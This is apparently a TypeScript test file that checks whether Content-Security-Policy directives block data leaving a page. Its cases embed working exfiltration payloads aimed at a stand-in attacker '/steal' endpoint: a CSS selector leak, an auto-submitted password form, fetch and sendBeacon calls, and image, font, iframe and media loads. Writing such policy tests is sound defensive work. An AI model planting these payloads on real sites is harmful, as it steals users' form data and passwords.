import { NONE, SELF } from '@secure/core'
import type { Case, Scene } from '../case.js'
import { script } from '../site/site.js'

const attackerGot =
  (path: string) =>
  ({ received }: Scene): boolean =>
    received.attacker.some((request) => request.path.startsWith(path))

const csp = {
  header: 'Content-Security-Policy',
  option: 'csp',
  works: 'window.works === true',
  attacked: attackerGot('/steal'),
} as const

const WORKS = '<script src="/app.js"></script>'
const APP = { '/app.js': script('window.works = true') }

/** Data that leaves the page, with or without script. */
export const CSP_EXFILTRATION: readonly Case[] = [
  {
    ...csp,
    name: 'a style that reads a form field and tells the attacker',
    framework: 'express',
    policy: { csp: { 'style-src': [SELF] } },
    site: (at) => ({
      '/': `<style>input[value^="s"] { background: url(${at.attacker}/steal?s) }</style><input value="secret">${WORKS}`,
      ...APP,
    }),
  },
  {
    ...csp,
    name: 'a style attribute that covers the page',
    framework: 'express',
    policy: { csp: { 'style-src': [SELF] } },
    site: () => ({ '/': `<a style="position: fixed; inset: 0" href="/evil">x</a>${WORKS}`, ...APP }),
    attacked: 'getComputedStyle(document.querySelector("a")).position === "fixed"',
  },
  {
    ...csp,
    name: "a stylesheet of the attacker's server",
    framework: 'express',
    policy: { csp: { 'style-src': [SELF] } },
    site: (at) => ({ '/': `<link rel="stylesheet" href="${at.attacker}/steal">${WORKS}`, ...APP }),
  },
  {
    ...csp,
    name: 'a form that sends the password to the attacker',
    framework: 'koa',
    policy: { csp: { 'form-action': [SELF] } },
    site: (at) => ({
      '/': `<form action="${at.attacker}/steal" method="post"><input name="password" value="secret"></form>
        <script>addEventListener('load', () => setTimeout(() => document.forms[0].submit()))</script>`,
    }),
    attacked: ({ received }) => received.attacker.some(({ path, body }) => path === '/steal' && body.includes('secret')),
    works: () => true,
  },
  {
    ...csp,
    name: 'a fetch of stolen data',
    framework: 'koa',
    policy: { csp: { 'connect-src': [SELF] } },
    site: (at) => ({
      '/': `<script>fetch('${at.attacker}/steal', { method: 'POST', body: 'secret', mode: 'no-cors' }).catch(() => {})</script>${WORKS}`,
      ...APP,
    }),
  },
  {
    ...csp,
    name: 'a beacon of stolen data',
    framework: 'koa',
    policy: { csp: { 'connect-src': [SELF] } },
    site: (at) => ({ '/': `<script>navigator.sendBeacon('${at.attacker}/steal', 'secret')</script>${WORKS}`, ...APP }),
  },
  {
    ...csp,
    name: 'an image with stolen data in its address',
    framework: 'hono',
    policy: { csp: { 'img-src': [SELF] } },
    site: (at) => ({ '/': `<img src="${at.attacker}/steal?secret">${WORKS}`, ...APP }),
  },
  {
    ...csp,
    name: 'anything at all, under default-src alone',
    framework: 'hono',
    policy: { csp: { 'default-src': [SELF] } },
    site: (at) => ({
      '/': `<img src="${at.attacker}/steal"><video src="${at.attacker}/steal"></video><iframe src="${at.attacker}/steal"></iframe>${WORKS}`,
      ...APP,
    }),
  },
  {
    ...csp,
    name: "a log-in form in the attacker's frame",
    framework: 'fastify',
    policy: { csp: { 'frame-src': [NONE] } },
    site: (at) => ({ '/': `<iframe src="${at.attacker}/steal"></iframe>${WORKS}`, ...APP }),
  },
  {
    ...csp,
    name: 'a video of the attacker',
    framework: 'fastify',
    policy: { csp: { 'media-src': [SELF] } },
    site: (at) => ({ '/': `<video preload="auto" src="${at.attacker}/steal"></video>${WORKS}`, ...APP }),
  },
  {
    ...csp,
    name: 'a font of the attacker',
    framework: 'fastify',
    policy: { csp: { 'font-src': [SELF] } },
    site: (at) => ({
      '/': `<style>@font-face { font-family: evil; src: url(${at.attacker}/steal) } p { font-family: evil }</style><p>text</p>${WORKS}`,
      ...APP,
    }),
  },
]
